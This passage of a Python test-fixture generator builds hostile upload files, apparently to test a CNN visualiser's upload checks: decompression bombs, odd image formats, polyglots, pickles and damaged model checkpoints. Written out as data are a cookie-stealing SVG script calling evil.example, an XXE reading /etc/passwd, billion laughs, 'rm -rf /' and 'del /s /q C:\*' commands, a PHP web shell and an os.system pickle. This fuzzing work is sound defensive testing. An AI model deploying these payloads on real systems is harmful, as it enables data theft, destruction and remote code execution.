        HostileFile("decompression bomb", "png iCCP chunk inflating to 64 MB", "bomb-iccp.png",
                    png(8, 8, raw=b"\x00" * 72,
                        extra=(png_chunk(b"iCCP", b"icc\x00\x00" + zeros_deflate(64 << 20, 1 << 20)),))),
        HostileFile("decompression bomb", "png with 10000 tEXt chunks", "bomb-text.png",
                    png(8, 8, raw=b"\x00" * 72, extra=tuple(png_chunk(b"tEXt", b"k\x00" + b"v" * 100) for _ in range(10000)))),
        HostileFile("decompression bomb", "png IDAT inflating to 64 MB for an 8 x 8 image", "bomb-idat.png",
                    png(8, 8, idat=zeros_deflate(64 << 20, 1 << 20))),
        HostileFile("decompression bomb", "gif of 4000 frames", "bomb-frames.gif",
                    encode(Image.new("P", (4, 4)), "GIF", save_all=True,
                           append_images=[Image.new("P", (4, 4), i % 256) for i in range(1, 4000)], duration=10)),
    ]
    return files


def odd_modes() -> list[HostileFile]:
    ramp16 = (np.arange(24 * 16, dtype=np.uint32).reshape(16, 24) * 170).astype(np.uint16)  # 0..65110
    float_pixels = np.linspace(-5, 5, 24 * 16, dtype=np.float32).reshape(16, 24)
    float_pixels[0, :4] = [np.nan, np.inf, -np.inf, 3e38]
    rgb = noise(24, 16, seed=5)
    with_transparency = rgb.convert("P")
    la = noise(24, 16, "LA", seed=6)
    images = [
        ("png 1-bit", encode(rgb.convert("1"), "PNG"), "png"),
        ("png L", encode(rgb.convert("L"), "PNG"), "png"),
        ("png LA", encode(la, "PNG"), "png"),
        ("png P with transparency", encode(with_transparency, "PNG", transparency=3), "png"),
        ("png RGB with a colour key", encode(rgb, "PNG", transparency=(1, 2, 3)), "png"),
        ("png L with a grey key", encode(rgb.convert("L"), "PNG", transparency=7), "png"),
        ("png RGBA", encode(noise(24, 16, "RGBA"), "PNG"), "png"),
        ("png I;16", encode(Image.fromarray(ramp16), "PNG"), "png"),
        ("png 16-bit RGB", png(3, 2, bit_depth=16, colour_type=2, raw=(b"\x00" + bytes(range(18))) * 2), "png"),
        ("png 16-bit RGBA", png(3, 2, bit_depth=16, colour_type=6, raw=(b"\x00" + b"\xff\x00" * 12) * 2), "png"),
        ("png 16-bit LA", png(3, 2, bit_depth=16, colour_type=4, raw=(b"\x00" + b"\x80\x00" * 6) * 2), "png"),
        ("png 2-bit gray", png(8, 2, bit_depth=2, raw=b"\x00\x1b\xe4" * 2), "png"),
        ("png 4-bit palette with alpha", png(4, 2, bit_depth=4, colour_type=3, raw=b"\x00\x01\x23" * 2,
                                             extra=(png_chunk(b"PLTE", bytes(range(12))),
                                                    png_chunk(b"tRNS", b"\x00\x80\xff"))), "png"),
        ("tiff 1-bit", encode(rgb.convert("1"), "TIFF"), "tif"),
        ("tiff LA", encode(la, "TIFF"), "tif"),
        ("tiff P", encode(rgb.convert("P"), "TIFF"), "tif"),
        ("tiff RGBA", encode(noise(24, 16, "RGBA"), "TIFF"), "tif"),
        ("tiff CMYK", encode(noise(24, 16, "CMYK"), "TIFF"), "tif"),
        ("tiff YCbCr", encode(rgb.convert("YCbCr"), "TIFF"), "tif"),
        ("tiff LAB", encode(Image.frombytes("LAB", (24, 16), rgb.tobytes()), "TIFF"), "tif"),
        ("tiff I;16", encode(Image.fromarray(ramp16), "TIFF"), "tif"),
        ("tiff I;16B", encode(Image.frombytes("I;16B", (24, 16), ramp16.astype(">u2").tobytes()), "TIFF"), "tif"),
        ("tiff I (32-bit signed, negative)", encode(Image.fromarray(ramp16.astype(np.int32) - 40000), "TIFF"), "tif"),
        ("tiff I constant", encode(Image.fromarray(np.full((16, 24), -7, np.int32)), "TIFF"), "tif"),
        ("tiff F with NaN and infinities", encode(Image.fromarray(float_pixels), "TIFF"), "tif"),
        ("tiff F all NaN", encode(Image.fromarray(np.full((16, 24), np.nan, np.float32)), "TIFF"), "tif"),
        ("tiff F in [0, 1]", encode(Image.fromarray(np.linspace(0, 1, 384, dtype=np.float32).reshape(16, 24)), "TIFF"), "tif"),
        ("jpeg CMYK", encode(noise(24, 16, "CMYK"), "JPEG"), "jpg"),
        ("jpeg YCbCr source", encode(rgb.convert("YCbCr"), "JPEG"), "jpg"),
        ("jpeg L", encode(rgb.convert("L"), "JPEG"), "jpg"),
        ("bmp 1-bit", encode(rgb.convert("1"), "BMP"), "bmp"),
        ("bmp L", encode(rgb.convert("L"), "BMP"), "bmp"),
        ("bmp RGBA", encode(noise(24, 16, "RGBA"), "BMP"), "bmp"),
        ("gif L", encode(rgb.convert("L"), "GIF"), "gif"),
        ("gif with transparency", encode(with_transparency, "GIF", transparency=0), "gif"),
        ("webp RGBA fully transparent", encode(Image.new("RGBA", (16, 16), (0, 0, 0, 0)), "WEBP", lossless=True), "webp"),
        ("webp L", encode(rgb.convert("L"), "WEBP"), "webp"),
    ]
    for orientation in range(1, 9):
        exif = Image.Exif()
        exif[0x0112] = orientation
        images.append((f"jpeg EXIF orientation {orientation}", encode(rgb, "JPEG", exif=exif.tobytes()), "jpg"))
    return [HostileFile("odd mode", label, f"mode-{i}.{ext}", data) for i, (label, data, ext) in enumerate(images)]


def odd_shapes() -> list[HostileFile]:
    shapes = [(1, 1), (1, 2), (2, 1), (1, 3000), (3000, 1), (2, 20000), (20000, 2), (1, 60000), (60000, 1),
              (5, 5000), (5000, 5), (29, 1), (1, 29)]
    files = []
    for i, (width, height) in enumerate(shapes):
        files.append(HostileFile("odd shape", f"png {width} x {height}", f"shape-{i}.png",
                                 encode(Image.new("L", (width, height), 200), "PNG")))
    files.append(HostileFile("odd shape", "gif 1 x 1", "shape-1x1.gif", encode(Image.new("P", (1, 1)), "GIF")))
    files.append(HostileFile("odd shape", "jpeg 1 x 1", "shape-1x1.jpg", encode(Image.new("RGB", (1, 1)), "JPEG")))
    files.append(HostileFile("odd shape", "bmp 1 x 4000", "shape-1x4000.bmp", encode(Image.new("RGB", (1, 4000)), "BMP")))
    files.append(HostileFile("odd shape", "webp 16383 x 1", "shape-16383x1.webp",
                             encode(Image.new("RGB", (16383, 1)), "WEBP", lossless=True)))
    files.append(HostileFile("odd shape", "tiff 1 x 10000", "shape-1x10000.tif", encode(Image.new("L", (1, 10000)), "TIFF")))
    return files


def animations() -> list[HostileFile]:
    frames = [noise(20, 16, seed=s) for s in range(4)]
    mixed = [frames[0], noise(40, 8, seed=9), noise(8, 40, "L", seed=10).convert("RGB")]
    files = [
        ("animated gif", encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=40, loop=0), "gif"),
        ("animated gif with transparency", encode(frames[0].convert("P"), "GIF", save_all=True,
                                                  append_images=[f.convert("P") for f in frames[1:]], transparency=0,
                                                  disposal=2), "gif"),
        ("animated gif, frames of different sizes", encode(mixed[0], "GIF", save_all=True, append_images=mixed[1:]), "gif"),
        ("animated webp", encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=40), "webp"),
        ("animated webp RGBA", encode(noise(16, 16, "RGBA"), "WEBP", save_all=True,
                                      append_images=[noise(16, 16, "RGBA", seed=3)], duration=40), "webp"),
        ("apng", encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=40), "png"),
        ("apng with a broken second frame", _damage_tail(encode(frames[0], "PNG", save_all=True,
                                                                append_images=frames[1:], duration=40)), "png"),
        ("multi-page tiff", encode(frames[0], "TIFF", save_all=True, append_images=frames[1:]), "tif"),
        ("multi-page tiff, mixed modes", encode(frames[0], "TIFF", save_all=True,
                                                append_images=[frames[1].convert("L"), frames[2].convert("CMYK")]), "tiff"),
        ("multi-page tiff, broken second page", _damage_tail(encode(frames[0], "TIFF", save_all=True,
                                                                    append_images=frames[1:])), "tif"),
        ("tiff with an endless page chain", _tiff_loop(), "tif"),
        ("mpo with two frames", encode(frames[0], "MPO", save_all=True, append_images=frames[1:2]), "mpo"),
        ("mpo with four frames", encode(frames[0], "MPO", save_all=True, append_images=frames[1:]), "jpg"),
        ("gif with 300 frames", encode(frames[0].convert("P"), "GIF", save_all=True,
                                       append_images=[frames[i % 4].convert("P") for i in range(300)], duration=10), "gif"),
        ("tiff with 200 pages", encode(Image.new("L", (4, 4)), "TIFF", save_all=True,
                                       append_images=[Image.new("L", (4, 4), i) for i in range(200)]), "tif"),
    ]
    return [HostileFile("animation or pages", label, f"anim-{i}.{ext}", data) for i, (label, data, ext) in enumerate(files)]


def _damage_tail(data: bytes) -> bytes:
    """Overwrite the last third with 0xff: the first frame survives, later ones do not."""
    keep = 2 * len(data) // 3
    return data[:keep] + b"\xff" * (len(data) - keep)


ONE_PIXEL_PNG_BASE64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def svgs() -> list[HostileFile]:
    laughs = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                                        for i in range(1, 10)]
    documents = [
        ("plain svg", '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
                      '<circle cx="50" cy="50" r="40"/></svg>'),
        ("svg with an XML declaration", '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("svg billion laughs", '<?xml version="1.0"?>\n<!DOCTYPE svg [' + "".join(laughs)
         + ']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>'),
        ("svg external entity", '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                                '\n<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'),
        ("svg with a script", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                              '<script>fetch("http://evil.example/?c="+document.cookie)</script></svg>'),
        ("svg 100000 x 100000", '<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"/>'),
        ("svg with an embedded png", '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,'
                                     + ONE_PIXEL_PNG_BASE64 + '"/></svg>'),
        ("svg with a UTF-8 byte-order mark", "\ufeff<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("svg in UTF-16", None),
    ]
    files = []
    for i, (label, text) in enumerate(documents):
        data = text.encode() if text is not None else "<svg xmlns='http://www.w3.org/2000/svg'/>".encode("utf-16")
        files.append(HostileFile("svg", label, f"drawing-{i}.{('png', 'jpg', 'gif', 'webp')[i % 4]}", data))
    files.append(HostileFile("svg", "gzipped svg (svgz)", "drawing.png", gzip.compress(documents[2][1].encode(), mtime=0)))
    return files


def executables() -> list[HostileFile]:
    files = [
        ("a small ELF program", small_elf(), "jpg"),
        ("a Windows MZ/PE program", windows_exe(), "jpg"),
        ("a Mach-O program header", struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(200), "png"),
        ("a Java class file", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(120), "gif"),
        ("a WebAssembly module", b"\x00asm\x01\x00\x00\x00" + bytes(60), "webp"),
        ("a shell script", b"#!/bin/sh\nrm -rf --no-preserve-root /\n", "jpg"),
        ("a Python script", b"import os\nos.system('echo pwned')\n", "png"),
        ("a Windows batch file", b"@echo off\r\ndel /s /q C:\\*\r\n", "bmp"),
    ]
    for path in ("/bin/ls", "/bin/true"):
        if Path(path).is_file():
            files.append((f"the bytes of {path}", Path(path).read_bytes(), "jpg"))
    return [HostileFile("executable", label, f"photo-{i}.{ext}", data) for i, (label, data, ext) in enumerate(files)]


def scripts() -> list[HostileFile]:
    documents = [
        ("an HTML page", "<!DOCTYPE html><html><body><h1>Hi</h1></body></html>"),
        ("HTML with a script", "<html><script>alert(document.domain)</script></html>"),
        ("bare JavaScript", "alert(1);//"),
        ("PHP", "<?php system($_GET['c']); ?>"),
        ("a CSV table", "a,b,c\n1,2,3\n"),
        ("JSON", '{"not": "an image"}'),
        ("a data URL of a PNG", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"),
        ("base64 of a PNG", ONE_PIXEL_PNG_BASE64),
        ("a very long single line", "A" * 200_000),
        ("text with control characters", "\x01\x02\x03 hello \x1b[31mred\x1b[0m"),
        ("right-to-left override text", "photo\u202egnp.exe"),
    ]
    return [HostileFile("script or html", label, f"page-{i}.png", text.encode()) for i, (label, text) in enumerate(documents)]


def archives() -> list[HostileFile]:
    photo = encode(noise(16, 16), "PNG")
    zipped = zip_of({"photo.png": photo})
    bomb = zip_of({"zeros.bin": bytes(20 << 20)}, zipfile.ZIP_DEFLATED)
    tarred = io.BytesIO()
    with tarfile.open(fileobj=tarred, mode="w") as archive:
        info = tarfile.TarInfo("photo.png")
        info.size = len(photo)
        archive.addfile(info, io.BytesIO(photo))
    files = [
        ("a zip holding a png", zipped, "png"),
        ("a zip bomb (20 MB of zeros)", bomb, "png"),
        ("a gzip of a png", gzip.compress(photo, mtime=0), "png"),
        ("a tar of a png", tarred.getvalue(), "png"),
        ("a 7-zip header", b"7z\xbc\xaf\x27\x1c" + bytes(100), "jpg"),
        ("a RAR header", b"Rar!\x1a\x07\x01\x00" + bytes(100), "jpg"),
        ("a PDF", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", "jpg"),
        ("a HEIC photo header", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100), "jpg"),
        ("an AVIF header", b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(100), "png"),
        ("an MP4 header", b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + bytes(100), "gif"),
        ("an ICO (allowed by Pillow, not by cnnviz)", encode(noise(16, 16), "ICO"), "png"),
        ("a PSD header", b"8BPS\x00\x01" + bytes(100), "png"),
        ("a TGA (Pillow reads it)", encode(noise(16, 16), "TGA"), "jpg"),
        ("a PCX (Pillow reads it)", encode(noise(16, 16), "PCX"), "bmp"),
        ("an EPS header", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n", "tif"),
        ("a JPEG 2000", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(100), "jpg"),
        ("an MP3 header", b"ID3\x03\x00\x00\x00\x00\x00\x00" + bytes(100), "jpg"),
        ("a WAV header", b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(100), "webp"),
        ("an Ogg header", b"OggS\x00\x02" + bytes(100), "webp"),
        ("a WebM header", b"\x1aE\xdf\xa3" + bytes(100), "webp"),
    ]
    return [HostileFile("archive or document", label, f"doc-{i}.{ext}", data) for i, (label, data, ext) in enumerate(files)]


class _RunsCode:
    """Pickled as a call to os.system: only ever serialised here, never loaded."""

    def __reduce__(self):
        import os

        return (os.system, ("echo this must never run",))


def pickles() -> list[HostileFile]:
    """Pickles named as photos. (Bytes only: nothing here is ever unpickled by the tests.)"""
    files = [
        ("a pickled dict", pickle.dumps({"state_dict": {}, "config": {"name": "lenet5"}}), "jpg"),
        ("a protocol-0 pickle", pickle.dumps([1, 2, 3], protocol=0), "png"),
        ("a pickle calling os.system", pickle.dumps(_RunsCode()), "jpg"),
    ]
    checkpoint = Path(__file__).resolve().parent.parent / "pretrained" / "lenet5-fashion-mnist.pt"
    if checkpoint.is_file():
        files.append(("a real cnnviz checkpoint", checkpoint.read_bytes(), "jpg"))
    return [HostileFile("pickle", label, f"model-{i}.{ext}", data) for i, (label, data, ext) in enumerate(files)]


def polyglots() -> list[HostileFile]:
    photo_png = encode(noise(16, 16), "PNG")
    photo_gif = encode(noise(16, 16).convert("P"), "GIF")
    photo_jpeg = encode(noise(16, 16), "JPEG")
    zipped = zip_of({"evil.php": b"<?php system($_GET['c']); ?>"})
    files = [
        ("a GIF with a zip appended (GIFAR)", photo_gif + zipped, "gif"),
        ("a PNG with PHP after IEND", photo_png + b"<?php system($_GET['c']); ?>", "png"),
        ("a PNG with HTML in a tEXt chunk", photo_png[:33] + png_chunk(b"tEXt", b"x\x00<script>alert(1)</script>")
         + photo_png[33:], "png"),
        ("a JPEG with HTML in its comment", photo_jpeg[:2] + b"\xff\xfe\x00\x24<script>alert(1)</script>pad__"
         + photo_jpeg[2:], "jpg"),
        ("a JPEG followed by a PDF", photo_jpeg + b"%PDF-1.4\n%%EOF\n", "jpg"),
        ("GIF89a then JavaScript", b"GIF89a/*\x00\x00\x00\x00*/=1;alert(1);", "gif"),
        ("BM then JavaScript", b"BM=1;alert(1);" + bytes(60), "bmp"),
        ("an HTML page starting with a PNG signature", PNG_SIGNATURE + b"<html><script>alert(1)</script></html>", "png"),
        ("a PDF that starts with a JPEG marker", b"\xff\xd8\xff\xe0%PDF-1.4\n%%EOF\n", "jpg"),
        ("a zip whose first entry is a valid PNG, named .png", zip_of({"photo.png": photo_png}), "png"),
        ("a PNG with a zip appended", photo_png + zipped, "png"),
        ("a WebP RIFF with a WAV inside", b"RIFF\x24\x00\x00\x00WEBPfmt " + bytes(40), "webp"),
    ]
    return [HostileFile("polyglot", label, f"poly-{i}.{ext}", data) for i, (label, data, ext) in enumerate(files)]


# ---------------------------------------------------------------------------------------------
# Crafted checkpoints (for the Home page's checkpoint upload)
# ---------------------------------------------------------------------------------------------


def checkpoint_payloads(real: bytes, seed: int = 0) -> list[HostileFile]:
    """Damaged and hand-edited cnnviz checkpoints, built from ``real`` (a valid checkpoint's bytes).

    Some stay loadable on purpose (changed weights, other dtypes): the upload must then
    succeed; everything else (NaN weights and the legacy torch.save format too) must be refused
    with a sentence. Nothing here
    carries code: a checkpoint that runs code is tests/test_checkpoints.py's business.
    """
    import torch

    rng = random.Random(seed)
    base = torch.load(io.BytesIO(real), weights_only=True)

    def saved(payload, **options) -> bytes:
        buffer = io.BytesIO()
        torch.save(payload, buffer, **options)
        return buffer.getvalue()

    def edited(**changes) -> dict:
        return {**base, **changes}

    state = base["state_dict"]
    first = next(iter(state))
    config = base["config"]
    files: list[tuple[str, bytes]] = []
    n = len(real)
    for cut in sorted({1, 2, 4, 30, 64, 100, 512, n // 8, n // 4, n // 2, 3 * n // 4, n - 100, n - 22, n - 1}):
        files.append((f"real checkpoint cut at byte {cut} of {n}", real[:cut]))
    for index in range(16):
        mutated = bytearray(real)
        for _ in range(1 + index):
            mutated[rng.randrange(n)] = rng.randrange(256)
        files.append((f"real checkpoint with {1 + index} random bytes changed", bytes(mutated)))
    payloads = {
        "a list": [1, 2, 3],
        "a tensor": torch.zeros(3),
        "a string": "lenet5",
        "None": None,
        "an empty dict": {},
        "only the state_dict": state,
        "config not a dict": edited(config=["lenet5"]),
        "config without a name": edited(config={k: v for k, v in config.items() if k != "name"}),
        "config name not a string": edited(config={**config, "name": 5}),
        "an unknown model": edited(config={**config, "name": "skynet"}),
        "num_classes 'ten'": edited(config={**config, "num_classes": "ten"}),
        "num_classes 0": edited(config={**config, "num_classes": 0}),
        "num_classes -3": edited(config={**config, "num_classes": -3}),
        "num_classes True": edited(config={**config, "num_classes": True}),
        "num_classes 11 for 10 names": edited(config={**config, "num_classes": 11}),
        "input_size 10**6": edited(config={**config, "input_size": 10**6}),
        "in_channels 10**6": edited(config={**config, "in_channels": 10**6}),
        "an unknown setting": edited(config={**config, "evil": 1}),
        "NaN in the mean": edited(config={**config, "mean": [float("nan")]}),
        "classes not a list": edited(classes="0123456789"),
        "classes as numbers": edited(classes=list(range(10))),
        "3 classes for 10 outputs": edited(classes=["a", "b", "c"]),
        "meta not a dict": edited(meta=[1]),
        "state_dict not a dict": edited(state_dict=[1, 2]),
        "a weight missing": edited(state_dict={k: v for k, v in state.items() if k != first}),
        "an extra weight": edited(state_dict={**state, "evil.weight": torch.zeros(1)}),
        "a weight of the wrong shape": edited(state_dict={**state, first: torch.zeros(2, 2)}),
        "a weight that is a list": edited(state_dict={**state, first: state[first].tolist()}),
        "complex weights": edited(state_dict={k: v.to(torch.complex64) for k, v in state.items()}),
        "integer weights": edited(state_dict={k: v.to(torch.int64) for k, v in state.items()}),
        "boolean weights": edited(state_dict={k: v > 0 for k, v in state.items()}),
        "float64 weights": edited(state_dict={k: v.double() for k, v in state.items()}),
        "NaN weights": edited(state_dict={k: torch.full_like(v, float("nan")) for k, v in state.items()}),
        "meta nested 150 deep": edited(meta={"deep": _nested(150)}),
    }
    files += [(f"checkpoint with {label}", saved(payload)) for label, payload in payloads.items()]
    files.append(("the real checkpoint in the legacy (non-zip) format", saved(base, _use_new_zipfile_serialization=False)))
    zipped = zipfile.ZipFile(io.BytesIO(real))
    for drop in ("data.pkl", "data/0", "version"):
        kept = {name: zipped.read(name) for name in zipped.namelist() if not name.endswith("/" + drop)}
        files.append((f"real checkpoint without its {drop} entry", zip_of(kept)))
    entries = {name: zipped.read(name) for name in zipped.namelist()}
    pkl = next(name for name in entries if name.endswith("/data.pkl"))
    files.append(("real checkpoint whose data.pkl is random bytes", zip_of({**entries, pkl: rng.randbytes(200)})))
    return [HostileFile("checkpoint", label, f"model-{i}.pt", data) for i, (label, data) in enumerate(files)]


def _nested(depth: int) -> list:
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


# ---------------------------------------------------------------------------------------------
# The whole set
# ---------------------------------------------------------------------------------------------


def hostile_files(seed: int = 0) -> list[HostileFile]:
    """Every hostile file, deterministic for a given seed, without duplicates (by name and bytes)."""
    rng = random.Random(seed)
    valid = valid_images()
    files = (
        random_bytes(rng) + magic_then_garbage(rng) + truncated(valid, rng) + corrupt(valid, rng) + empty_files()
        + huge_dimensions() + decompression_bombs() + odd_modes() + odd_shapes() + animations() + svgs()
        + executables() + scripts() + archives() + pickles() + polyglots()
    )
    unique, seen = [], set()
    for file in files:
        key = (file.filename.rsplit(".", 1)[-1], file.data)
        if key not in seen:
            seen.add(key)
            unique.append(file)
    return unique


def nastiest(files: list[HostileFile]) -> list[HostileFile]:
    """A short list of the nastiest files: the first match for each label below."""
    wanted = [
        ("random bytes", "20 random bytes"),
        ("magic then garbage", "png magic + 500 random bytes"),
        ("magic then garbage", "jpg magic + 3000 random bytes"),
        ("truncated", "jpeg baseline cut at byte"),
        ("truncated", "png rgb cut at byte"),
        ("truncated", "gif animated cut at byte"),
        ("truncated", "webp lossy cut at byte"),
        ("corrupt", "tiff lzw: 20 random bytes changed"),
        ("corrupt", "png with a bad CRC"),
        ("corrupt", "bmp palette of 2**31 colours"),
        ("corrupt", "tiff tile 65536 x 65536"),
        ("empty", "zero bytes"),
        ("huge dimensions", "png claiming 100000 x 100000"),
        ("huge dimensions", "gif 8 x 8 screen, frame claiming 65535 x 65535"),
        ("huge dimensions", "bmp claiming 2147483647 x 2147483647"),
        ("huge dimensions", "jpeg SOF claiming 65535 x 65535"),
        ("huge dimensions", "webp VP8X canvas claiming 16777216 x 16777216"),
        ("decompression bomb", "png 20000 x 20000"),
        ("decompression bomb", "png 6000 x 6600"),
        ("decompression bomb", "tiff 30000 x 30000"),
        ("odd mode", "tiff F with NaN"),
        ("odd mode", "png I;16"),
        ("odd mode", "tiff CMYK"),
        ("odd shape", "png 60000 x 1"),
        ("odd shape", "png 1 x 60000"),
        ("animation or pages", "animated gif, frames of different sizes"),
        ("animation or pages", "tiff with an endless page chain"),
        ("svg", "svg billion laughs"),
        ("svg", "svg external entity"),
        ("executable", "the bytes of /bin/ls"),
        ("executable", "a Windows MZ/PE program"),
        ("script or html", "HTML with a script"),
        ("archive or document", "a zip bomb"),
        ("pickle", "a pickle calling os.system"),
        ("polyglot", "a GIF with a zip appended"),
    ]
    chosen = []
    for family, prefix in wanted:
        matches = [f for f in files if f.family == family and f.label.startswith(prefix)]
        if matches:
            chosen.append(matches[len(matches) // 2])  # e.g. a cut in the middle, not at byte 1
    return chosen
